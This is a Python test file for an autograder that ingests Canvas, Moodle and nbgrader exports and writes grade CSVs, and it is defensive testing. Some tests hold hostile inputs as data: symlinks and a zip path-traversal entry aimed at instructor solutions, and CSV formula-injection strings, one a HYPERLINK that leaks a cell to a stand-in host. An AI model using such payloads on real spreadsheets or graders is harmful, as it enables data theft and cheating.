"""LMS exports in, LMS imports out: Canvas and Moodle file names, rosters, regular files only, damaged
notebooks, and the grade files each LMS imports."""

from __future__ import annotations

import codecs
import csv
import os
import zipfile
from pathlib import Path

import nbformat
import pytest

from autograder.course.build import source_notebook
from autograder.engine import lms
from autograder.engine.gradebook import Final
from autograder.engine.intake import NotebookError, discover, read_notebook
from autograder.engine.roster import RosterError, load_roster

FIXTURE = Path(__file__).parent / "fixtures" / "solutions" / "01_tiny.py"
TINY = "01_tiny"
ANSWERS = {TINY: {"linear_layer", "mse_loss"}, "02_small": {"relu"}}


@pytest.fixture(scope="module")
def text() -> str:
    return nbformat.writes(source_notebook(FIXTURE))


def run(inputs: Path, tmp_path: Path, files: int, assignments=(TINY,), course=(TINY, "02_small")):
    subs, rejected = discover(inputs, list(assignments), ANSWERS, tmp_path / "scratch", course=list(course))
    assert len(subs) + len(rejected) == files, (subs, rejected)
    return subs, {r.origin: r for r in rejected}


def test_a_canvas_export_keeps_every_student_apart(tmp_path: Path, text: str) -> None:
    names = {
        lms.canvas_file_name("wangwei", 11, 501, "01_tiny.ipynb"): "canvas-11",
        lms.canvas_file_name("wangwei", 12, 502, "01_tiny.ipynb"): "canvas-12",
        lms.canvas_file_name("smith-jonesanna", 13, 503, "01_tiny.ipynb"): "canvas-13",
        lms.canvas_file_name("müllerjürgen", 14, 504, "My 01_tiny work.ipynb", late=True): "canvas-14",
        lms.canvas_file_name("ngo", 15, 505, "01_tiny.ipynb"): None,  # superseded
        lms.canvas_file_name("ngo", 15, 507, "01_tiny.ipynb", resubmission=2): "canvas-15",
        lms.canvas_file_name("ngo", 15, 506, "01_tiny.ipynb", resubmission=1): None,  # superseded
    }
    assert list(names)[3] == "müllerjürgen_LATE_14_504_My 01_tiny work.ipynb"
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for name in names:
        (inbox / name).write_text(text, encoding="utf-8")
    subs, rejected = run(inbox, tmp_path, files=7)
    assert {s.origin: s.student for s in subs} == {k: v for k, v in names.items() if v}
    late = {s.student: s.late for s in subs}
    assert late == {
        "canvas-11": False,
        "canvas-12": False,
        "canvas-13": False,
        "canvas-14": True,
        "canvas-15": False,
    }
    assert {s.student: s.name for s in subs}["canvas-13"] == "smith-jonesanna"
    kept = "ngo_15_507_01_tiny-2.ipynb"
    assert {k: r.reason for k, r in rejected.items()} == {
        "ngo_15_505_01_tiny.ipynb": f"superseded by a later file for the same student: {kept}",
        "ngo_15_506_01_tiny-1.ipynb": f"superseded by a later file for the same student: {kept}",
    }
    assert all(r.student == "canvas-15" for r in rejected.values())


def test_a_moodle_export_keeps_two_jane_does_apart(tmp_path: Path, text: str) -> None:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for name in (
        lms.moodle_file_name("Jane Doe", 301, "01_tiny.ipynb"),
        lms.moodle_file_name("Jane Doe", 302, "01_tiny.ipynb"),
        lms.moodle_file_name("Anne_Marie O'Brien-Ní Dhuibhir", 303, "01_tiny.ipynb"),
    ):
        (inbox / name).write_text(text, encoding="utf-8")
    folder = inbox / "Łukasz Żółw_304_assignsubmission_file_"
    folder.mkdir()
    (folder / "01_tiny.ipynb").write_text(text, encoding="utf-8")
    subs, rejected = run(inbox, tmp_path, files=4)
    assert rejected == {}
    assert [(s.student, s.lms_id, s.name) for s in subs] == [
        ("moodle-301", "301", "Jane Doe"),
        ("moodle-302", "302", "Jane Doe"),
        ("moodle-303", "303", "Anne Marie O'Brien-Ní Dhuibhir"),
        ("moodle-304", "304", "Łukasz Żółw"),
    ]


def test_files_of_other_assignments_are_set_aside_not_rejected(tmp_path: Path, text: str) -> None:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "ann_01_tiny.ipynb").write_text(text)
    (inbox / "ann_02_small.ipynb").write_text(text)
    subs, rejected = run(inbox, tmp_path, files=2)
    assert [s.origin for s in subs] == ["ann_01_tiny.ipynb"]
    aside = rejected["ann_02_small.ipynb"]
    assert (aside.other_assignment, aside.student, aside.assignment) == (True, "ann", "02_small")
    assert aside.reason == "a file of 02_small, not graded in this run"


# -- regular files only -------------------------------------------------------------


def test_symlinks_devices_and_fifos_are_rejected_and_never_followed(tmp_path: Path, text: str) -> None:
    secret = tmp_path / "instructor" / "01_tiny.ipynb"
    secret.parent.mkdir()
    secret.write_text(text)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "ann_01_tiny.ipynb").write_text(text)
    (inbox / "eve_01_tiny.ipynb").symlink_to(secret)
    (inbox / "dir_link").symlink_to(secret.parent)
    os.mkfifo(inbox / "pipe_01_tiny.ipynb")
    subs, rejected = run(inbox, tmp_path, files=4)
    assert [s.origin for s in subs] == ["ann_01_tiny.ipynb"]
    assert {k: r.reason for k, r in rejected.items()} == {
        "eve_01_tiny.ipynb": "a symbolic link, not a regular file: not followed",
        "dir_link": "a symbolic link to a folder, not a regular file: not followed",
        "pipe_01_tiny.ipynb": "not a regular file (a device, pipe or socket)",
    }
    # a symbolic link given as the input itself is not followed either
    assert discover(inbox / "eve_01_tiny.ipynb", [TINY], ANSWERS, tmp_path / "s2")[1][0].reason.startswith(
        "a symbolic link"
    )


def test_zip_entries_that_are_links_or_escape_are_rejected(tmp_path: Path, text: str) -> None:
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("ann_01_tiny.ipynb", text)
        link = zipfile.ZipInfo("eve_01_tiny.ipynb")
        link.external_attr = (0o120777 << 16) | 0x20  # a symbolic link, as `zip --symlinks` stores one
        zf.writestr(link, "/srv/course/source/01_tiny/01_tiny.ipynb")
        fifo = zipfile.ZipInfo("pipe_01_tiny.ipynb")
        fifo.external_attr = 0o010644 << 16
        zf.writestr(fifo, "")
        zf.writestr("../../bob_01_tiny.ipynb", text)
    subs, rejected = run(archive, tmp_path, files=4)
    assert [s.origin for s in subs] == ["export.zip:ann_01_tiny.ipynb"]
    assert {k: r.reason for k, r in rejected.items()} == {
        "export.zip:eve_01_tiny.ipynb": "a symbolic link in the zip archive, not a regular file",
        "export.zip:pipe_01_tiny.ipynb": "not a regular file in the zip archive",
        "export.zip:../../bob_01_tiny.ipynb": "unsafe path in zip archive",
    }
    assert not (tmp_path / "scratch" / "unzipped" / "eve_01_tiny.ipynb").exists()


# -- damaged but recoverable notebooks ----------------------------------------------


def v3(text: str) -> str:
    """The notebook in nbformat 3, as an old Jupyter saved it."""
    return nbformat.writes(nbformat.reads(text, as_version=4), version=3)


@pytest.mark.parametrize(
    "encode",
    [
        lambda t: codecs.BOM_UTF8 + t.encode("utf-8"),
        lambda t: t.encode("utf-16"),
        lambda t: t.encode("utf-16-le"),
        lambda t: t.replace("linear layer", "linear layer \u00e9").encode("latin-1", "replace"),
        lambda t: v3(t).encode("utf-8"),
    ],
    ids=["utf8-bom", "utf16-bom", "utf16-no-bom", "latin1", "nbformat3"],
)
def test_recoverable_notebooks_are_read(tmp_path: Path, text: str, encode) -> None:
    data = encode(text)
    path = tmp_path / "jane_01_tiny.ipynb"
    path.write_bytes(data)
    nb = read_notebook(path)
    assert nb.nbformat == 4
    assert {"linear_layer", "mse_loss"} <= {c.get("id") for c in nb.cells} | {
        c.metadata.get("nbgrader", {}).get("grade_id") for c in nb.cells
    }
    subs, _ = run(tmp_path / "jane_01_tiny.ipynb", tmp_path, files=1)
    assert [s.student for s in subs] == ["jane"]


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b'{"nbformat": 5, "cells": []}', "not a notebook: nbformat version 5, expected 4 (or 3)"),
        (b'{"cells": []}', "not a notebook: nbformat version None, expected 4 (or 3)"),
        (b"42", "not a notebook: the file holds a JSON int, not an object"),
        (b'{"nbformat": 4, "cells": [', "not valid notebook JSON (JSONDecodeError: Expecting value: line 1 "
         "column 27 (char 26))"),
        (b"\x80\x81 not json", "not UTF-8 text ('utf-8' codec can't decode byte 0x80 in position 0: invalid "
         "start byte), nor Latin-1 notebook JSON"),
    ],
    ids=["nbformat5", "no-version", "number", "truncated", "binary"],
)  # fmt: skip
def test_a_refusal_names_the_exact_reason(tmp_path: Path, content: bytes, reason: str) -> None:
    path = tmp_path / "x.ipynb"
    path.write_bytes(content)
    with pytest.raises(NotebookError) as exc:
        read_notebook(path)
    assert str(exc.value) == reason


# -- rosters ---------------------------------------------------------------------------------------


def test_rosters_of_every_lms(tmp_path: Path) -> None:
    canvas = tmp_path / "canvas.csv"
    canvas.write_text(
        "\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,HW1 (12)\n    Points Possible,,,,,10\n"
        '"Wang, Wei",11,S11,ww@x.example,A,\n"Test Student",99,,,,\n',
        encoding="utf-8",
    )
    r = load_roster(canvas)
    assert r.kind == "canvas" and set(r.people) == {"canvas-11", "canvas-99"}
    assert (r.find("canvas-11").first_name, r.find("canvas-11").email) == ("Wei", "ww@x.example")
    assert r.find("canvas-12") is None and r.why_not("canvas-12", "wangwei") == (
        "student canvas-12 (wangwei) is not on the roster canvas.csv"
    )
    worksheet = tmp_path / "worksheet.csv"
    worksheet.write_text(
        "Identifier,Full name,Email address,Status,Grade\nParticipant 301,Jane Doe,jd1@x.example,,\n"
        "Participant 302,Jane Doe,jd2@x.example,,\n"
    )
    r = load_roster(worksheet)
    assert r.find("moodle-302").email == "jd2@x.example"
    gradebook = tmp_path / "moodle_gradebook.csv"
    gradebook.write_text(
        "First name,Last name,ID number,Institution,Department,Email address\n"
        "Jane,Doe,1,,,jd1@x.example\nJane,Doe,2,,,jd2@x.example\nAda,Lovelace,3,,,al@x.example\n"
    )
    r = load_roster(gradebook)
    assert r.find("moodle-9", "moodle", "9", "Ada Lovelace").email == "al@x.example"
    assert r.find("moodle-8", "moodle", "8", "Jane Doe") is None
    assert "several people on the roster" in r.why_not("moodle-8", "Jane Doe")
    nbg = tmp_path / "students.csv"
    nbg.write_text("id,first_name,last_name,email\njane,Jane,Doe,jd@x.example\n")
    assert load_roster(nbg).find("jane").last_name == "Doe"
    bad = tmp_path / "bad.csv"
    bad.write_text("name,score\nx,1\n")
    with pytest.raises(RosterError, match="is not a Canvas gradebook export"):
        load_roster(bad)


# -- grade files for the LMS ------------------------------------------------------------------------


def final(student: str, assignment: str, score: float, **kw) -> Final:
    base = dict(raw_score=score, late_penalty=0.0, max_score=10.0, manual=False, timestamp="",
                seconds_late=0.0, first_name="", last_name="", email="", lms_user_id="")  # fmt: skip
    return Final(student, assignment, score=score, **{**base, **kw})


def test_the_canvas_import_has_a_column_per_assignment_and_totals(tmp_path: Path) -> None:
    finals = [
        final("canvas-12", "01_a", 7, first_name="Wei", last_name="Wang"),
        final("canvas-12", "02_b", 9.5, first_name="Wei", last_name="Wang"),
        final("canvas-11", "01_a", 10, first_name="Wei", last_name="Wang"),
        final("moodle-3", "01_a", 1),
    ]
    path = tmp_path / "canvas.csv"
    rows = lms.write_canvas_import(path, finals, {"canvas-11": {"sis_user_id": "S11", "section": "A"}})
    assert rows == 2
    assert list(csv.reader(path.open(encoding="utf-8"))) == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "01_a", "02_b", "Final Points"],
        ["Points Possible", "", "", "", "", "10", "10", ""],
        ["Wang, Wei", "11", "S11", "", "A", "10", "", "10"],
        ["Wang, Wei", "12", "", "", "", "7", "9.5", "16.5"],
    ]


def test_the_moodle_files(tmp_path: Path) -> None:
    finals = [
        final("moodle-302", "01_a", 4, first_name="Jane", last_name="Doe", email="jd2@x.example"),
        final("moodle-301", "01_a", 10, first_name="Jane", last_name="Doe", email="jd1@x.example"),
        final("moodle-401", "02_b", 6, first_name="Jane", last_name="Doe", email="jd1@x.example"),
    ]
    paths = lms.write_moodle_worksheets(tmp_path, finals)
    assert [p.name for p in paths] == ["moodle_worksheet_01_a.csv", "moodle_worksheet_02_b.csv"]
    rows = list(csv.reader(paths[0].open(encoding="utf-8")))
    assert rows[0][:6] == ["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade"]
    assert [r[:6] for r in rows[1:]] == [
        ["Participant 301", "Jane Doe", "jd1@x.example", "Submitted for grading", "10", "10"],
        ["Participant 302", "Jane Doe", "jd2@x.example", "Submitted for grading", "4", "10"],
    ]
    assert lms.write_moodle_gradebook(tmp_path / "gb.csv", finals) == 2
    assert list(csv.reader((tmp_path / "gb.csv").open(encoding="utf-8"))) == [
        ["First name", "Last name", "Email address", "01_a", "02_b", "Total"],
        ["Jane", "Doe", "jd1@x.example", "10", "6", "16"],
        ["Jane", "Doe", "jd2@x.example", "4", "", "4"],
    ]


#: What a Canvas sortable name, a Moodle full name or a roster field may hold.
FORMULAS = ['=HYPERLINK("http://x.example/?leak="&C3)', "@SUM(1)", "-2+3", "+1", "\tcmd", "\rcmd"]


def test_formulas_in_names_and_roster_fields_are_text_in_every_lms_file(tmp_path: Path) -> None:
    """Each cell a spreadsheet would read as a formula gets a leading quote; the scores stay numbers."""
    people = {"canvas-11": {"name": FORMULAS[0], "sis_user_id": FORMULAS[1], "sis_login_id": FORMULAS[2],
                            "section": FORMULAS[3]}}  # fmt: skip
    finals = [
        final("canvas-11", "01_a", 7),
        final("moodle-301", "01_a", 4, first_name=FORMULAS[4], last_name="Doe", email=FORMULAS[1]),
        final("moodle-302", "01_a", 0, first_name=FORMULAS[5], last_name="Roe", email="-r@x.example"),
    ]
    lms.write_canvas_import(tmp_path / "canvas.csv", finals, people)
    assert list(csv.reader((tmp_path / "canvas.csv").open(encoding="utf-8")))[2] == [
        "'" + FORMULAS[0], "11", "'@SUM(1)", "'-2+3", "'+1", "7", "7"
    ]  # fmt: skip
    (worksheet,) = lms.write_moodle_worksheets(tmp_path, finals)
    rows = list(csv.reader(worksheet.open(encoding="utf-8", newline="")))
    assert [r[1:3] + r[4:6] for r in rows[1:]] == [
        ["'\tcmd Doe", "'@SUM(1)", "4", "10"],
        ["cmd Roe", "'-r@x.example", "0", "10"],
    ]  # a carriage return is a control character: cleaning removes it, and "cmd" is no formula
    lms.write_moodle_gradebook(tmp_path / "gb.csv", finals)
    assert list(csv.reader((tmp_path / "gb.csv").open(encoding="utf-8", newline=""))) == [
        ["First name", "Last name", "Email address", "01_a", "Total"],
        ["cmd", "Roe", "'-r@x.example", "0", "0"],
        ["'\tcmd", "Doe", "'@SUM(1)", "4", "4"],
    ]


def test_negative_numbers_the_engine_writes_stay_numbers(tmp_path: Path) -> None:
    from autograder.engine.untrusted import csv_row

    assert csv_row([-1.5, 0, 7.25, "-1.5", None, True]) == ["-1.5", "0", "7.25", "'-1.5", "", "True"]


def test_nbgrader_layout_reads_the_submission_time(tmp_path: Path, text: str) -> None:
    folder = tmp_path / "submitted" / "jane" / TINY
    folder.mkdir(parents=True)
    (folder / f"{TINY}.ipynb").write_text(text)
    (folder / "timestamp.txt").write_text("2026-10-02 09:30:00.123456 UTC")
    subs, rejected = run(tmp_path / "submitted", tmp_path, files=1)
    assert rejected == {}
    assert [(s.student, s.lms, s.timestamp) for s in subs] == [
        ("jane", "nbgrader", "2026-10-02T09:30:00.123456")
    ]


def test_the_grade_command_refuses_an_unusable_gradebook_before_grading(tmp_path: Path, capsys) -> None:
    from autograder.__main__ import main

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    code = main(["grade", TINY, str(inbox), "--course", str(tmp_path / "course"),
                 "--solutions", str(FIXTURE.parent), "--db-url", "mysql://nowhere/x"])  # fmt: skip
    assert code == 2
    err = capsys.readouterr().err
    assert err.startswith("error: no database driver for mysql://nowhere/x is installed")
    assert err.rstrip().endswith("Nothing was graded.")
    assert not (tmp_path / "course" / "source").exists()
